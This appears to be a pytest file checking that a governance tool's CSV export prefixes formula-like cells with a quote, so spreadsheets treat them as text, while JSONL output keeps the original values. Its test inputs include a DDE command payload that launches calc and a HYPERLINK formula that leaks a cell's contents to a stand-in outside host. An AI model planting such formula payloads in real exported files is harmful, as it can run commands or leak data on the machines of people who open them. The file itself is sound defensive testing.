"""`governance export --format csv`: cells a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from governance.export import export_records, spreadsheet_cell
from governance.ledger import Ledger
from governance.record_layout import RECORD_FIELDS
from governance.store import Store

from .test_intake import adopted, intake, proposal, write

__all__ = ["adopted"]  # a fixture, imported for its use here


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ('{"title": "=1"}', '{"title": "=1"}'),
        (17, "17"),
        (None, ""),
    ],
)
def test_spreadsheet_cell(value: object, cell: str) -> None:
    assert spreadsheet_cell(value) == cell


def test_csv_export_neutralises_formulas_and_jsonl_keeps_the_stored_text(
    adopted: Store, ledger: Ledger, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")'
    candidates = intake.check_submission(adopted, [str(write(tmp_path, "a.yaml", proposal(title=formula)))])
    intake.file_proposals(adopted, ledger, candidates, formula)  # an outside name in recorded_by
    with adopted.read() as conn:
        text, count = export_records(conn, None, None, "csv")
        lines, _ = export_records(conn, None, None, "jsonl")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == list(RECORD_FIELDS)
    assert count == len(rows) - 1 == 3  # policy adopted, filed, screened
    by = RECORD_FIELDS.index("recorded_by")
    assert [row[by] for row in rows[1:]] == ["ana", "'" + formula, "'" + formula]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    stored = [json.loads(line) for line in lines.splitlines()]
    assert [r["recorded_by"] for r in stored] == ["ana", formula, formula]
    assert rows[1:] == [[spreadsheet_cell(r[c]) for c in RECORD_FIELDS] for r in stored]
